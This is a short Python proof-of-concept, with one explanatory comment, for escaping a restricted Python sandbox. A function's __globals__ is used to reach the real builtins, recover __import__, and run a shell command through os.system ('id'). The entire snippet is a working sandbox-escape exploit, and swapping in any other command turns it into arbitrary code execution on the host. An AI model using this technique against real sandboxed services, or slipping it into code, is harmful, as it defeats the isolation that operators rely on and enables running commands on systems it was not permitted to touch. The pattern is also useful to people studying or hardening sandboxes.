# Any Python function carries its module's globals, and through them the real
# builtins, even when the sandbox handed the user an empty namespace.
def helper():
    return 1


real = helper.__globals__["__builtins__"]
imp = real["__import__"] if isinstance(real, dict) else real.__import__
imp("os").system("id")
